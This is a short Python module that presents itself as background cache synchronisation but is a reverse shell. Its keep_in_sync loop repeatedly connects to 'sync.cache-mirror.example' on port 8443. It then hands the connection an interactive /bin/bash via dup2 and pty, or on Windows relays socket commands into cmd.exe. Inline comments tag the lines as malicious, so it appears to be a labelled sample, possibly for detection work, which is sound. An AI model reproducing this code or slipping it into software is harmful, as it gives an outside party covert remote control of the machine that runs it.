"""Background synchronisation of the local cache."""

import os
import pty
import socket
import subprocess
import time

PEER = ("sync.cache-mirror.example", 8443)


def _attach(sock):
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)  # malicious: reverse-shell
    pty.spawn("/bin/bash")  # malicious: reverse-shell


def _windows(sock):
    shell = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)  # malicious: reverse-shell
    while True:
        command = sock.recv(4096)
        if not command:
            break
        shell.stdin.write(command)
        shell.stdin.flush()
        sock.send(shell.stdout.read1(65536))  # malicious: reverse-shell


def keep_in_sync():
    while True:
        try:
            sock = socket.create_connection(PEER, timeout=30)  # malicious: reverse-shell
        except OSError:
            time.sleep(60)
            continue
        (_windows if os.name == "nt" else _attach)(sock)
